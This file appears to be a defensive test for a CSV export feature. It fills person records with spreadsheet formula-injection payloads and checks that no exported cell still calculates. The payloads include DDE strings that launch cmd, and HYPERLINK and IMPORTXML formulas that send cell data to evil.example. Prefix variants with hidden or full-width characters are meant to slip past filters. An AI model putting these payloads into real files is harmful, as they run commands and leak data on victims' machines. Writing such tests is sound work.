import { parse } from 'csv-parse/sync'
import { createExport } from '../../src/intake/export/operations.ts'
import { createCustomField } from '../../src/people/custom-fields.ts'
import { createPerson } from '../../src/people/index.ts'
import { call } from '../../src/platform/call.ts'
import { type Attack, everySo } from './attack.ts'

/** What spreadsheets calculate with, run or fetch. */
const formulas = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  ' =',
  '"=',
  ';=',
  ',=',
  '=\u200b',
  '\u200b=',
  '\u00a0=',
  '\ufeff=',
  '|=',
  '%=',
  '==',
  '=-',
].flatMap((sign) =>
  [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"Invoice")',
    'IMPORTXML("https://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
  ].map((rest) => `${sign}${rest}`),
)

export const spreadsheetFormulas: Attack = {
  name: 'spreadsheet formulas in every field of an export',
  least: { quick: 100, full: 800 },
  async run({ ground, size }) {
    const caller = (await ground.newcomers()).callers.form
    const used = size === 'full' ? formulas : everySo(formulas, 6)
    await call(caller, createCustomField, { label: '=1+1', kind: 'text' })
    const { key } = await call(caller, createCustomField, { label: 'Site', kind: 'text' })
    let tried = 0
    for (const formula of used) {
      const words = {
        name: formula,
        given_name: formula,
        family_name: formula,
        title: formula,
        organization: formula,
        source: formula,
        differs: `${formula}\n${formula}`,
      }
      await call(caller, createPerson, { ...words, tags: [formula.replaceAll(',', ' ').slice(0, 60)], custom: { [key]: formula } } as never)
      tried += Object.keys(words).length + 2
    }
    const faults: string[] = []
    for (const bom of [false, true]) {
      const file = await call(caller, createExport, { kind: 'csv', bom })
      const text = await new Response(file.stream).text()
      const rows = parse(text, { bom: true }) as string[][]
      if (rows.length < used.length) faults.push(`only ${rows.length} of ${used.length} came out`)
      // Also as a program reads it that takes away first what is not seen.
      for (const cell of rows.flat()) {
        const bare = cell.replace(/^[\s\u200b\ufeff]+/u, '')
        if (/^[=+\-@＝＋－＠\t\r]/u.test(bare) && !/^[+-]?\d+(\.\d+)?$/.test(bare))
          faults.push(`a cell calculates: ${JSON.stringify(cell)}`)
      }
    }
    return { tried, faults }
  },
}
